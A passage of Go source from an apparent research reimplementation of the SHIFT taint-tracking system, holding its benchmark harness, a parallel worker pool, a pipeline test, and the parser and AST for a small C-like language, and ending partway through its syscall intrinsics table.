		if row.Byte, err = count(srcs, shift.Options{Instrument: true, Policy: &confB}); err != nil {
			return row, err
		}
		return row, nil
	}

	// The runtime library alone (glibc analogue): link it with a main
	// that references nothing so the counts are dominated by the library.
	benches := workload.All()
	rows := make([]Table3Row, 1+len(benches))
	err := parallelFor(len(rows), func(i int) error {
		var err error
		if i == 0 {
			rows[0], err = measure("rtlib",
				[]shift.Source{{Name: "main.mc", Text: "void main() { exit(0); }"}}, nil)
		} else {
			b := benches[i-1]
			rows[i], err = measure(b.Name,
				[]shift.Source{{Name: b.Name, Text: b.Source}}, b.Permissive)
		}
		return err
	})
	if err != nil {
		return nil, err
	}
	return rows, nil
}

// PrintTable3 renders the expansion table.
func PrintTable3(w io.Writer, rows []Table3Row) {
	fmt.Fprintln(w, "Table 3: static code-size expansion (instruction counts)")
	fmt.Fprintln(w, "(paper: glibc +36/45%, SPEC +132%..288%; byte > word)")
	fmt.Fprintf(w, "%-10s %10s %10s %10s %10s %10s\n",
		"program", "orig", "word", "word-exp", "byte", "byte-exp")
	for _, r := range rows {
		fmt.Fprintf(w, "%-10s %10d %10d %9.0f%% %10d %9.0f%%\n",
			r.Name, r.Original, r.Word, r.WordPct(), r.Byte, r.BytePct())
	}
}

// ---------------------------------------------------------------------------
// §6.3 ablation: per-function NaT regeneration.

// Ablation compares keeping the NaT source live against regenerating it
// at every function entry and at every use (paper §4.4: the per-function
// strategy cost ~3X against keeping the token during development).
func Ablation(scaleDiv int) ([]SpecRow, error) {
	return RunSpec(scaleDiv, []Config{ByteUnsafe, BytePerFunc, BytePerUse})
}

// PrintAblation renders the comparison.
func PrintAblation(w io.Writer, rows []SpecRow) {
	fmt.Fprintln(w, "Ablation (§4.4): NaT source kept live vs regenerated per function / per use")
	fmt.Fprintf(w, "%-10s %14s %22s %18s %10s %9s\n",
		"bench", "byte-unsafe", "byte-nat-per-func", "byte-nat-per-use", "func-ratio", "use-ratio")
	for _, r := range rows {
		a := r.Slowdown["byte-unsafe"]
		pf := r.Slowdown["byte-nat-per-function"]
		pu := r.Slowdown["byte-nat-per-use"]
		fmt.Fprintf(w, "%-10s %13.2fX %21.2fX %17.2fX %9.2fx %8.2fx\n", r.Name, a, pf, pu, pf/a, pu/a)
	}
}

// Optimization measures the §4.4/§6.4 future-work compiler optimizations
// (kept mask register + tag-address reuse) against the stock pass.
func Optimization(scaleDiv int) ([]SpecRow, error) {
	return RunSpec(scaleDiv, []Config{ByteUnsafe, ByteOpt, WordUnsafe, WordOpt})
}

// PrintOptimization renders the comparison.
func PrintOptimization(w io.Writer, rows []SpecRow) {
	fmt.Fprintln(w, "Compiler optimizations (§4.4/§6.4 future work: kept mask + tag-address reuse)")
	fmt.Fprintf(w, "%-10s %14s %15s %14s %15s\n",
		"bench", "byte-unsafe", "byte-optimized", "word-unsafe", "word-optimized")
	for _, r := range rows {
		fmt.Fprintf(w, "%-10s %13.2fX %14.2fX %13.2fX %14.2fX\n", r.Name,
			r.Slowdown["byte-unsafe"], r.Slowdown["byte-optimized"],
			r.Slowdown["word-unsafe"], r.Slowdown["word-optimized"])
	}
	fmt.Fprintf(w, "%-10s %13.2fX %14.2fX %13.2fX %14.2fX\n", "geomean",
		Geomean(rows, "byte-unsafe"), Geomean(rows, "byte-optimized"),
		Geomean(rows, "word-unsafe"), Geomean(rows, "word-optimized"))
}

// ThreadRow is one thread count of the multi-threaded experiment.
type ThreadRow struct {
	Workers    int
	BaseCycles uint64
	Slowdown   map[string]float64
}

// Threads measures instrumented overhead for the multi-threaded workload
// (the paper's §4.4 future work) across worker counts. Cells (one worker
// count under one configuration, plus its baseline) run on the pool.
func Threads(scale int, workerCounts []int) ([]ThreadRow, error) {
	configs := []Config{ByteUnsafe, WordUnsafe}
	stride := 1 + len(configs)
	cells := make([]*shift.Result, len(workerCounts)*stride)
	err := parallelFor(len(cells), func(i int) error {
		k := workerCounts[i/stride]
		var opt shift.Options
		if j := i % stride; j != 0 {
			conf := workload.MTConfig()
			conf.Granularity = configs[j-1].Gran
			opt = shift.Options{Instrument: true, Policy: conf}
		}
		res, err := shift.BuildAndRun(
			[]shift.Source{{Name: "mt.mc", Text: workload.MTSource}},
			workload.MTWorld(scale, k), opt)
		if err != nil {
			return err
		}
		if res.Trap != nil || res.Alert != nil {
			return fmt.Errorf("threads k=%d: trap=%v alert=%v", k, res.Trap, res.Alert)
		}
		cells[i] = res
		return nil
	})
	if err != nil {
		return nil, err
	}
	var rows []ThreadRow
	for ki, k := range workerCounts {
		base := cells[ki*stride]
		row := ThreadRow{Workers: k, BaseCycles: base.Cycles, Slowdown: map[string]float64{}}
		for ci, cfg := range configs {
			res := cells[ki*stride+1+ci]
			if string(res.World.Stdout) != string(base.World.Stdout) {
				return nil, fmt.Errorf("threads k=%d %s: output diverged", k, cfg.Key)
			}
			row.Slowdown[cfg.Key] = float64(res.Cycles) / float64(base.Cycles)
		}
		rows = append(rows, row)
	}
	return rows, nil
}

// PrintThreads renders the multi-threaded overhead table.
func PrintThreads(w io.Writer, rows []ThreadRow) {
	fmt.Fprintln(w, "Multi-threaded guests (§4.4 future work): slowdown vs thread count")
	fmt.Fprintf(w, "%-8s %14s %14s\n", "workers", "byte-unsafe", "word-unsafe")
	for _, r := range rows {
		fmt.Fprintf(w, "%-8d %13.2fX %13.2fX\n", r.Workers,
			r.Slowdown["byte-unsafe"], r.Slowdown["word-unsafe"])
	}
}

// Names lists the experiment identifiers PrintAll understands.
func Names() []string {
	return []string{"table1", "table2", "table3", "fig6", "fig7", "fig8", "fig9", "ablation", "opt", "threads", "sensitivity"}
}

// PrintAll runs and prints the named experiment ("all" runs everything).
// scaleDiv divides the reference input scale (1 = full, larger = faster);
// httpdRequests sizes the Figure 6 run.
func PrintAll(w io.Writer, name string, scaleDiv, httpdRequests int) error {
	want := func(n string) bool { return name == "all" || name == n }
	if !want("") && name != "all" {
		found := false
		for _, n := range Names() {
			if n == name {
				found = true
			}
		}
		if !found {
			return fmt.Errorf("unknown experiment %q (have %s, all)", name, strings.Join(Names(), ", "))
		}
	}
	if want("table1") {
		PrintTable1(w)
		fmt.Fprintln(w)
	}
	if want("table2") {
		res, err := Table2()
		if err != nil {
			return err
		}
		PrintTable2(w, res)
		fmt.Fprintln(w)
	}
	if want("fig6") {
		sizes := []int{4 * 1024, 8 * 1024, 16 * 1024, 512 * 1024}
		rows, err := Fig6(httpdRequests, sizes)
		if err != nil {
			return err
		}
		PrintFig6(w, rows)
		fmt.Fprintln(w)
	}
	if want("fig7") {
		rows, err := Fig7(scaleDiv)
		if err != nil {
			return err
		}
		PrintFig7(w, rows)
		fmt.Fprintln(w)
	}
	if want("fig8") {
		rows, err := Fig8(scaleDiv)
		if err != nil {
			return err
		}
		PrintFig8(w, rows)
		fmt.Fprintln(w)
	}
	if want("fig9") {
		rows, err := Fig9(scaleDiv)
		if err != nil {
			return err
		}
		PrintFig9(w, rows)
		fmt.Fprintln(w)
	}
	if want("table3") {
		rows, err := Table3()
		if err != nil {
			return err
		}
		PrintTable3(w, rows)
		fmt.Fprintln(w)
	}
	if want("ablation") {
		rows, err := Ablation(scaleDiv)
		if err != nil {
			return err
		}
		PrintAblation(w, rows)
		fmt.Fprintln(w)
	}
	if want("opt") {
		rows, err := Optimization(scaleDiv)
		if err != nil {
			return err
		}
		PrintOptimization(w, rows)
		fmt.Fprintln(w)
	}
	if want("threads") {
		rows, err := Threads(8192/scaleDiv, []int{1, 2, 4, 8})
		if err != nil {
			return err
		}
		PrintThreads(w, rows)
		fmt.Fprintln(w)
	}
	if want("sensitivity") {
		rows, err := Sensitivity(scaleDiv*4, []string{"gzip", "gcc", "mcf"})
		if err != nil {
			return err
		}
		PrintSensitivity(w, rows)
		fmt.Fprintln(w)
	}
	return nil
}
