package bench

import (
	"testing"

	"shift/internal/workload"
)

// Tagpipe routes instrumented measurement runs through the decoupled
// pipeline without changing their verdicts or architectural outcome: a
// benchmark must complete clean and produce the same guest output and
// retirement count as the inline configuration. (Cycle counts may
// differ only through the simulated cost model being identical — the
// pipeline runs on host threads, off the guest clock — so they are
// compared too.)
func TestTagpipeWiring(t *testing.T) {
	b := workload.All()[0]
	scale := b.RefScale / 64
	if scale < 64 {
		scale = 64
	}
	cfg := ByteUnsafe
	inline, err := RunBenchmark(b, scale, &cfg)
	if err != nil {
		t.Fatal(err)
	}

	prev := Tagpipe
	Tagpipe = 2
	defer func() { Tagpipe = prev }()
	piped, err := RunBenchmark(b, scale, &cfg)
	if err != nil {
		t.Fatalf("decoupled run: %v", err)
	}
	if piped.Stdout != inline.Stdout || piped.Retired != inline.Retired || piped.Cycles != inline.Cycles {
		t.Errorf("decoupled run diverged: stdout %q vs %q, retired %d vs %d, cycles %d vs %d",
			piped.Stdout, inline.Stdout, piped.Retired, inline.Retired, piped.Cycles, inline.Cycles)
	}
}
