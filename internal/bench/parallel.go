package bench

import (
	"runtime"
	"sync"
	"sync/atomic"
)

// The experiment matrix is embarrassingly parallel: every cell — one
// workload under one configuration — builds its own program, world and
// machine, and the simulator shares no mutable package state. The
// harness therefore fans cells out over a bounded worker pool and
// assembles results strictly by cell index afterwards, so the printed
// tables, geomeans and divergence checks are byte-identical to a serial
// run (the determinism golden test pins this).

// Workers caps the number of experiment cells run concurrently.
// 0 (the default) means runtime.NumCPU(); 1 forces serial execution.
var Workers = 0

// workers resolves the effective pool size for n cells.
func workers(n int) int {
	w := Workers
	if w <= 0 {
		w = runtime.NumCPU()
	}
	if w > n {
		w = n
	}
	if w < 1 {
		w = 1
	}
	return w
}

// parallelFor runs fn(0..n-1) on a bounded pool and waits for all of
// them. Every index runs even if another fails; the lowest-index error
// is returned so the winning error does not depend on scheduling.
func parallelFor(n int, fn func(i int) error) error {
	if n <= 0 {
		return nil
	}
	errs := make([]error, n)
	if w := workers(n); w > 1 {
		var next atomic.Int64
		var wg sync.WaitGroup
		wg.Add(w)
		for range w {
			go func() {
				defer wg.Done()
				for {
					i := int(next.Add(1)) - 1
					if i >= n {
						return
					}
					errs[i] = fn(i)
				}
			}()
		}
		wg.Wait()
	} else {
		for i := range errs {
			errs[i] = fn(i)
		}
	}
	for _, err := range errs {
		if err != nil {
			return err
		}
	}
	return nil
}
