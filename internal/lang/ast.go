package lang

import "fmt"

// TypeKind is the base kind of a minic type.
type TypeKind uint8

// Base type kinds.
const (
	KindVoid TypeKind = iota
	KindInt           // 8-byte signed
	KindChar          // 1-byte unsigned
)

// Type is a minic type: a base kind plus a pointer depth. Arrays appear
// only in declarations (they decay to pointers in expressions).
type Type struct {
	Kind TypeKind
	Ptr  int // pointer depth: int** has Ptr == 2
}

// Convenience type constructors.
var (
	TypeVoid    = Type{Kind: KindVoid}
	TypeInt     = Type{Kind: KindInt}
	TypeChar    = Type{Kind: KindChar}
	TypeCharPtr = Type{Kind: KindChar, Ptr: 1}
	TypeIntPtr  = Type{Kind: KindInt, Ptr: 1}
)

// IsPointer reports whether t is any pointer type.
func (t Type) IsPointer() bool { return t.Ptr > 0 }

// Elem returns the pointee type of a pointer.
func (t Type) Elem() Type { return Type{Kind: t.Kind, Ptr: t.Ptr - 1} }

// PointerTo returns a pointer to t.
func (t Type) PointerTo() Type { return Type{Kind: t.Kind, Ptr: t.Ptr + 1} }

// Size returns the storage size in bytes of one value of type t.
func (t Type) Size() int64 {
	if t.Ptr > 0 {
		return 8
	}
	switch t.Kind {
	case KindChar:
		return 1
	case KindInt:
		return 8
	}
	return 0
}

// String renders the type in C syntax.
func (t Type) String() string {
	base := "void"
	switch t.Kind {
	case KindInt:
		base = "int"
	case KindChar:
		base = "char"
	}
	for i := 0; i < t.Ptr; i++ {
		base += "*"
	}
	return base
}

// Pos is a source position.
type Pos struct {
	Line, Col int
}

// String renders "line:col".
func (p Pos) String() string { return fmt.Sprintf("%d:%d", p.Line, p.Col) }

// File is a parsed translation unit.
type File struct {
	Name  string
	Vars  []*VarDecl
	Funcs []*FuncDecl
}

// VarDecl is a global or local variable declaration.
type VarDecl struct {
	Pos      Pos
	Name     string
	Type     Type
	ArrayLen int64 // -1 when not an array
	// At most one of the initializer forms is set.
	Init     Expr    // scalar initializer
	InitStr  string  // char array initializer from a string literal
	InitList []int64 // brace-list initializer
	HasInit  bool

	// Filled by the checker / code generator.
	Global   bool
	AddrUsed bool // address taken (or array): must live in memory
}

// IsArray reports whether the declaration is an array.
func (d *VarDecl) IsArray() bool { return d.ArrayLen >= 0 }

// StorageSize returns the in-memory size the declaration needs.
func (d *VarDecl) StorageSize() int64 {
	if d.IsArray() {
		return d.Type.Size() * d.ArrayLen
	}
	return d.Type.Size()
}

// Param is one function parameter.
type Param struct {
	Pos  Pos
	Name string
	Type Type
}

// FuncDecl is a function definition.
type FuncDecl struct {
	Pos    Pos
	Name   string
	Ret    Type
	Params []*Param
	Body   *Block
}

// Stmt is any statement node.
type Stmt interface{ stmt() }

// Block is a brace-delimited statement list with its own scope.
type Block struct {
	Pos   Pos
	Stmts []Stmt
}

// DeclStmt wraps a local variable declaration.
type DeclStmt struct{ Decl *VarDecl }

// IfStmt is if/else.
type IfStmt struct {
	Pos  Pos
	Cond Expr
	Then Stmt
	Else Stmt // may be nil
}

// WhileStmt is a while loop.
type WhileStmt struct {
	Pos  Pos
	Cond Expr
	Body Stmt
}

// ForStmt is a C for loop; any header part may be nil.
type ForStmt struct {
	Pos  Pos
	Init Stmt // DeclStmt or ExprStmt
	Cond Expr
	Post Expr
	Body Stmt
}

// ReturnStmt returns from the enclosing function.
type ReturnStmt struct {
	Pos   Pos
	Value Expr // nil for void return
}

// BreakStmt exits the innermost loop.
type BreakStmt struct{ Pos Pos }

// ContinueStmt advances the innermost loop.
type ContinueStmt struct{ Pos Pos }

// ExprStmt evaluates an expression for its side effects.
type ExprStmt struct {
	Pos Pos
	X   Expr
}

func (*Block) stmt()        {}
func (*DeclStmt) stmt()     {}
func (*IfStmt) stmt()       {}
func (*WhileStmt) stmt()    {}
func (*ForStmt) stmt()      {}
func (*ReturnStmt) stmt()   {}
func (*BreakStmt) stmt()    {}
func (*ContinueStmt) stmt() {}
func (*ExprStmt) stmt()     {}

// Expr is any expression node. Every expression carries the type the
// checker assigned.
type Expr interface {
	expr()
	// ResultType returns the checked type (valid after Check).
	ResultType() Type
	// Position returns the source position.
	Position() Pos
}

// exprBase carries the fields every expression shares.
type exprBase struct {
	Pos  Pos
	Type Type
}

func (e *exprBase) expr()            {}
func (e *exprBase) ResultType() Type { return e.Type }
func (e *exprBase) Position() Pos    { return e.Pos }

// IntLit is an integer (or character) literal.
type IntLit struct {
	exprBase
	Val int64
}

// StrLit is a string literal; it denotes the address of an anonymous
// NUL-terminated char array in the data segment.
type StrLit struct {
	exprBase
	Val string
	// DataSym is assigned by the code generator.
	DataSym string
}

// Ident references a variable or parameter.
type Ident struct {
	exprBase
	Name string
	// Ref is resolved by the checker to the declaration (a *VarDecl for
	// variables or a *Param for parameters).
	VarRef   *VarDecl
	ParamRef *Param
}

// Unary is -x, !x, ~x, *x, &x.
type Unary struct {
	exprBase
	Op string
	X  Expr
}

// Binary is x op y for arithmetic, comparison, logical and shift ops.
type Binary struct {
	exprBase
	Op   string
	X, Y Expr
}

// Assign is lhs = rhs and the compound forms (+=, -=, ...).
type Assign struct {
	exprBase
	Op  string // "=", "+=", ...
	LHS Expr
	RHS Expr
}

// IncDec is ++x, --x, x++, x--.
type IncDec struct {
	exprBase
	Op   string // "++" or "--"
	Post bool
	X    Expr
}

// Call invokes a user function or a syscall intrinsic.
type Call struct {
	exprBase
	Name string
	Args []Expr
	// Func is resolved to the user function, nil for intrinsics.
	Func *FuncDecl
	// Intrinsic is the syscall number for builtin calls, 0 otherwise.
	Intrinsic int64
}

// Index is base[idx] (array indexing / pointer arithmetic sugar).
type Index struct {
	exprBase
	Base Expr
	Idx  Expr
}

// Cond is the ternary c ? a : b.
type Cond struct {
	exprBase
	C, A, B Expr
}
