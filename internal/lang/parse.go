package lang

import "fmt"

// ParseError is a syntax diagnostic.
type ParseError struct {
	Pos Pos
	Msg string
}

// Error implements the error interface.
func (e *ParseError) Error() string {
	return fmt.Sprintf("parse: %s: %s", e.Pos, e.Msg)
}

type parser struct {
	toks []Token
	pos  int
}

// Parse lexes and parses a translation unit.
func Parse(name, source string) (*File, error) {
	toks, err := Lex(source)
	if err != nil {
		return nil, err
	}
	p := &parser{toks: toks}
	f := &File{Name: name}
	for !p.atEOF() {
		if err := p.topDecl(f); err != nil {
			return nil, err
		}
	}
	return f, nil
}

func (p *parser) cur() Token  { return p.toks[p.pos] }
func (p *parser) atEOF() bool { return p.cur().Kind == TokEOF }

func (p *parser) curPos() Pos {
	t := p.cur()
	return Pos{t.Line, t.Col}
}

func (p *parser) next() Token {
	t := p.toks[p.pos]
	if t.Kind != TokEOF {
		p.pos++
	}
	return t
}

func (p *parser) errf(format string, args ...interface{}) error {
	return &ParseError{Pos: p.curPos(), Msg: fmt.Sprintf(format, args...)}
}

func (p *parser) isPunct(s string) bool {
	t := p.cur()
	return t.Kind == TokPunct && t.Text == s
}

func (p *parser) isKeyword(s string) bool {
	t := p.cur()
	return t.Kind == TokKeyword && t.Text == s
}

func (p *parser) accept(s string) bool {
	if p.isPunct(s) || p.isKeyword(s) {
		p.next()
		return true
	}
	return false
}

func (p *parser) expect(s string) error {
	if p.accept(s) {
		return nil
	}
	return p.errf("expected %q, found %q", s, p.cur().Text)
}

func (p *parser) expectIdent() (Token, error) {
	t := p.cur()
	if t.Kind != TokIdent {
		return t, p.errf("expected identifier, found %q", t.Text)
	}
	p.next()
	return t, nil
}

// typeStart reports whether the current token begins a type.
func (p *parser) typeStart() bool {
	return p.isKeyword("int") || p.isKeyword("char") || p.isKeyword("void")
}

func (p *parser) parseType() (Type, error) {
	t := Type{}
	switch {
	case p.accept("int"):
		t.Kind = KindInt
	case p.accept("char"):
		t.Kind = KindChar
	case p.accept("void"):
		t.Kind = KindVoid
	default:
		return t, p.errf("expected type, found %q", p.cur().Text)
	}
	for p.accept("*") {
		t.Ptr++
	}
	return t, nil
}

// topDecl parses one global variable or function definition.
func (p *parser) topDecl(f *File) error {
	pos := p.curPos()
	typ, err := p.parseType()
	if err != nil {
		return err
	}
	name, err := p.expectIdent()
	if err != nil {
		return err
	}
	if p.isPunct("(") {
		fn, err := p.funcRest(pos, typ, name.Text)
		if err != nil {
			return err
		}
		f.Funcs = append(f.Funcs, fn)
		return nil
	}
	d, err := p.varRest(pos, typ, name.Text)
	if err != nil {
		return err
	}
	d.Global = true
	f.Vars = append(f.Vars, d)
	return nil
}

// varRest parses the remainder of a variable declaration after the name.
func (p *parser) varRest(pos Pos, typ Type, name string) (*VarDecl, error) {
	d := &VarDecl{Pos: pos, Name: name, Type: typ, ArrayLen: -1}
	if p.accept("[") {
		t := p.cur()
		if t.Kind != TokInt {
			return nil, p.errf("array length must be an integer literal")
		}
		p.next()
		if t.Val <= 0 {
			return nil, p.errf("array length must be positive")
		}
		d.ArrayLen = t.Val
		if err := p.expect("]"); err != nil {
			return nil, err
		}
	}
	if p.accept("=") {
		d.HasInit = true
		switch {
		case p.cur().Kind == TokString && d.IsArray():
			d.InitStr = p.next().Str
		case p.accept("{"):
			for !p.accept("}") {
				t := p.cur()
				neg := false
				if p.accept("-") {
					neg = true
					t = p.cur()
				}
				if t.Kind != TokInt && t.Kind != TokChar {
					return nil, p.errf("brace initializers must be integer literals")
				}
				p.next()
				v := t.Val
				if neg {
					v = -v
				}
				d.InitList = append(d.InitList, v)
				if !p.accept(",") && !p.isPunct("}") {
					return nil, p.errf("expected ',' or '}' in initializer list")
				}
			}
		default:
			e, err := p.assignment()
			if err != nil {
				return nil, err
			}
			d.Init = e
		}
	}
	if err := p.expect(";"); err != nil {
		return nil, err
	}
	return d, nil
}

func (p *parser) funcRest(pos Pos, ret Type, name string) (*FuncDecl, error) {
	fn := &FuncDecl{Pos: pos, Name: name, Ret: ret}
	if err := p.expect("("); err != nil {
		return nil, err
	}
	if !p.accept(")") {
		// Allow (void).
		if p.isKeyword("void") && p.toks[p.pos+1].Kind == TokPunct && p.toks[p.pos+1].Text == ")" {
			p.next()
			p.next()
		} else {
			for {
				ppos := p.curPos()
				typ, err := p.parseType()
				if err != nil {
					return nil, err
				}
				id, err := p.expectIdent()
				if err != nil {
					return nil, err
				}
				// An array parameter decays to a pointer.
				if p.accept("[") {
					if p.cur().Kind == TokInt {
						p.next()
					}
					if err := p.expect("]"); err != nil {
						return nil, err
					}
					typ = typ.PointerTo()
				}
				fn.Params = append(fn.Params, &Param{Pos: ppos, Name: id.Text, Type: typ})
				if p.accept(")") {
					break
				}
				if err := p.expect(","); err != nil {
					return nil, err
				}
			}
		}
	}
	body, err := p.block()
	if err != nil {
		return nil, err
	}
	fn.Body = body
	return fn, nil
}

func (p *parser) block() (*Block, error) {
	pos := p.curPos()
	if err := p.expect("{"); err != nil {
		return nil, err
	}
	b := &Block{Pos: pos}
	for !p.accept("}") {
		if p.atEOF() {
			return nil, p.errf("unterminated block")
		}
		s, err := p.stmt()
		if err != nil {
			return nil, err
		}
		b.Stmts = append(b.Stmts, s)
	}
	return b, nil
}

func (p *parser) stmt() (Stmt, error) {
	pos := p.curPos()
	switch {
	case p.typeStart():
		typ, err := p.parseType()
		if err != nil {
			return nil, err
		}
		id, err := p.expectIdent()
		if err != nil {
			return nil, err
		}
		d, err := p.varRest(pos, typ, id.Text)
		if err != nil {
			return nil, err
		}
		return &DeclStmt{Decl: d}, nil

	case p.isPunct("{"):
		return p.block()

	case p.accept("if"):
		if err := p.expect("("); err != nil {
			return nil, err
		}
		cond, err := p.expression()
		if err != nil {
			return nil, err
		}
		if err := p.expect(")"); err != nil {
			return nil, err
		}
		then, err := p.stmt()
		if err != nil {
			return nil, err
		}
		var els Stmt
		if p.accept("else") {
			els, err = p.stmt()
			if err != nil {
				return nil, err
			}
		}
		return &IfStmt{Pos: pos, Cond: cond, Then: then, Else: els}, nil

	case p.accept("while"):
		if err := p.expect("("); err != nil {
			return nil, err
		}
		cond, err := p.expression()
		if err != nil {
			return nil, err
		}
		if err := p.expect(")"); err != nil {
			return nil, err
		}
		body, err := p.stmt()
		if err != nil {
			return nil, err
		}
		return &WhileStmt{Pos: pos, Cond: cond, Body: body}, nil

	case p.accept("for"):
		if err := p.expect("("); err != nil {
			return nil, err
		}
		f := &ForStmt{Pos: pos}
		if !p.accept(";") {
			if p.typeStart() {
				dpos := p.curPos()
				typ, err := p.parseType()
				if err != nil {
					return nil, err
				}
				id, err := p.expectIdent()
				if err != nil {
					return nil, err
				}
				d, err := p.varRest(dpos, typ, id.Text)
				if err != nil {
					return nil, err
				}
				f.Init = &DeclStmt{Decl: d}
			} else {
				e, err := p.expression()
				if err != nil {
					return nil, err
				}
				if err := p.expect(";"); err != nil {
					return nil, err
				}
				f.Init = &ExprStmt{Pos: dposOf(e), X: e}
			}
		}
		if !p.accept(";") {
			e, err := p.expression()
			if err != nil {
				return nil, err
			}
			f.Cond = e
			if err := p.expect(";"); err != nil {
				return nil, err
			}
		}
		if !p.accept(")") {
			e, err := p.expression()
			if err != nil {
				return nil, err
			}
			f.Post = e
			if err := p.expect(")"); err != nil {
				return nil, err
			}
		}
		body, err := p.stmt()
		if err != nil {
			return nil, err
		}
		f.Body = body
		return f, nil

	case p.accept("return"):
		r := &ReturnStmt{Pos: pos}
		if !p.accept(";") {
			e, err := p.expression()
			if err != nil {
				return nil, err
			}
			r.Value = e
			if err := p.expect(";"); err != nil {
				return nil, err
			}
		}
		return r, nil

	case p.accept("break"):
		if err := p.expect(";"); err != nil {
			return nil, err
		}
		return &BreakStmt{Pos: pos}, nil

	case p.accept("continue"):
		if err := p.expect(";"); err != nil {
			return nil, err
		}
		return &ContinueStmt{Pos: pos}, nil

	default:
		e, err := p.expression()
		if err != nil {
			return nil, err
		}
		if err := p.expect(";"); err != nil {
			return nil, err
		}
		return &ExprStmt{Pos: pos, X: e}, nil
	}
}

func dposOf(e Expr) Pos { return e.Position() }

// expression parses a full expression (assignment level).
func (p *parser) expression() (Expr, error) { return p.assignment() }

func (p *parser) assignment() (Expr, error) {
	lhs, err := p.ternary()
	if err != nil {
		return nil, err
	}
	for _, op := range []string{"=", "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=", "<<=", ">>="} {
		if p.isPunct(op) {
			pos := p.curPos()
			p.next()
			rhs, err := p.assignment()
			if err != nil {
				return nil, err
			}
			return &Assign{exprBase: exprBase{Pos: pos}, Op: op, LHS: lhs, RHS: rhs}, nil
		}
	}
	return lhs, nil
}

func (p *parser) ternary() (Expr, error) {
	c, err := p.binary(0)
	if err != nil {
		return nil, err
	}
	if p.isPunct("?") {
		pos := p.curPos()
		p.next()
		a, err := p.expression()
		if err != nil {
			return nil, err
		}
		if err := p.expect(":"); err != nil {
			return nil, err
		}
		b, err := p.ternary()
		if err != nil {
			return nil, err
		}
		return &Cond{exprBase: exprBase{Pos: pos}, C: c, A: a, B: b}, nil
	}
	return c, nil
}

// binOps lists binary operators by precedence level, lowest first.
var binOps = [][]string{
	{"||"},
	{"&&"},
	{"|"},
	{"^"},
	{"&"},
	{"==", "!="},
	{"<", "<=", ">", ">="},
	{"<<", ">>"},
	{"+", "-"},
	{"*", "/", "%"},
}

func (p *parser) binary(level int) (Expr, error) {
	if level >= len(binOps) {
		return p.unary()
	}
	lhs, err := p.binary(level + 1)
	if err != nil {
		return nil, err
	}
	for {
		matched := ""
		for _, op := range binOps[level] {
			if p.isPunct(op) {
				matched = op
				break
			}
		}
		if matched == "" {
			return lhs, nil
		}
		pos := p.curPos()
		p.next()
		rhs, err := p.binary(level + 1)
		if err != nil {
			return nil, err
		}
		lhs = &Binary{exprBase: exprBase{Pos: pos}, Op: matched, X: lhs, Y: rhs}
	}
}

func (p *parser) unary() (Expr, error) {
	pos := p.curPos()
	for _, op := range []string{"-", "!", "~", "*", "&"} {
		if p.isPunct(op) {
			p.next()
			x, err := p.unary()
			if err != nil {
				return nil, err
			}
			return &Unary{exprBase: exprBase{Pos: pos}, Op: op, X: x}, nil
		}
	}
	if p.isPunct("++") || p.isPunct("--") {
		op := p.next().Text
		x, err := p.unary()
		if err != nil {
			return nil, err
		}
		return &IncDec{exprBase: exprBase{Pos: pos}, Op: op, X: x}, nil
	}
	if p.isKeyword("sizeof") {
		p.next()
		if err := p.expect("("); err != nil {
			return nil, err
		}
		t, err := p.parseType()
		if err != nil {
			return nil, err
		}
		if err := p.expect(")"); err != nil {
			return nil, err
		}
		return &IntLit{exprBase: exprBase{Pos: pos, Type: TypeInt}, Val: t.Size()}, nil
	}
	return p.postfix()
}

func (p *parser) postfix() (Expr, error) {
	x, err := p.primary()
	if err != nil {
		return nil, err
	}
	for {
		pos := p.curPos()
		switch {
		case p.accept("["):
			idx, err := p.expression()
			if err != nil {
				return nil, err
			}
			if err := p.expect("]"); err != nil {
				return nil, err
			}
			x = &Index{exprBase: exprBase{Pos: pos}, Base: x, Idx: idx}
		case p.isPunct("++") || p.isPunct("--"):
			op := p.next().Text
			x = &IncDec{exprBase: exprBase{Pos: pos}, Op: op, Post: true, X: x}
		default:
			return x, nil
		}
	}
}

func (p *parser) primary() (Expr, error) {
	t := p.cur()
	pos := p.curPos()
	switch t.Kind {
	case TokInt, TokChar:
		p.next()
		return &IntLit{exprBase: exprBase{Pos: pos, Type: TypeInt}, Val: t.Val}, nil
	case TokString:
		p.next()
		return &StrLit{exprBase: exprBase{Pos: pos, Type: TypeCharPtr}, Val: t.Str}, nil
	case TokIdent:
		p.next()
		if p.accept("(") {
			c := &Call{exprBase: exprBase{Pos: pos}, Name: t.Text}
			if !p.accept(")") {
				for {
					arg, err := p.assignment()
					if err != nil {
						return nil, err
					}
					c.Args = append(c.Args, arg)
					if p.accept(")") {
						break
					}
					if err := p.expect(","); err != nil {
						return nil, err
					}
				}
			}
			return c, nil
		}
		return &Ident{exprBase: exprBase{Pos: pos}, Name: t.Text}, nil
	case TokPunct:
		if p.accept("(") {
			e, err := p.expression()
			if err != nil {
				return nil, err
			}
			if err := p.expect(")"); err != nil {
				return nil, err
			}
			return e, nil
		}
	}
	return nil, p.errf("unexpected token %q", t.Text)
}
