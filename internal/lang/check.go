package lang

import (
	"fmt"

	"shift/internal/isa"
)

// Intrinsic describes a built-in system-call function.
type Intrinsic struct {
	Syscall int64
	Params  []Type
	Ret     Type
}

// Intrinsics maps reserved function names to syscalls. These are the OS
// channels that serve as taint sources and policy sinks (paper §3.3.1 and
// Table 1). A program may not define functions with these names.
var Intrinsics = map[string]Intrinsic{
	"exit":       {isa.SysExit, []Type{TypeInt}, TypeVoid},
	"read":       {isa.SysRead, []Type{TypeInt, TypeCharPtr, TypeInt}, TypeInt},
	"write":      {isa.SysWrite, []Type{TypeInt, TypeCharPtr, TypeInt}, TypeInt},
	"open":       {isa.SysOpen, []Type{TypeCharPtr, TypeInt}, TypeInt},
	"recv":       {isa.SysRecv, []Type{TypeCharPtr, TypeInt}, TypeInt},
	"send":       {isa.SysSend, []Type{TypeCharPtr, TypeInt}, TypeInt},
	"sql_exec":   {isa.SysSqlExec, []Type{TypeCharPtr}, TypeInt},
	"system":     {isa.SysSystem, []Type{TypeCharPtr}, TypeInt},
	"html_write": {isa.SysHTMLWrite, []Type{TypeCharPtr, TypeInt}, TypeInt},
	"sbrk":       {isa.SysSbrk, []Type{TypeInt}, TypeCharPtr},
	"taint":      {isa.SysTaint, []Type{TypeCharPtr, TypeInt}, TypeVoid},
	"untaint":    {isa.SysUntaint, []Type{TypeCharPtr, TypeInt}, TypeVoid},
	"is_tainted": {isa.SysIsTainted, []Type{TypeCharPtr, TypeInt}, TypeInt},
	"getarg":     {isa.SysGetArg, []Type{TypeInt, TypeCharPtr, TypeInt}, TypeInt},
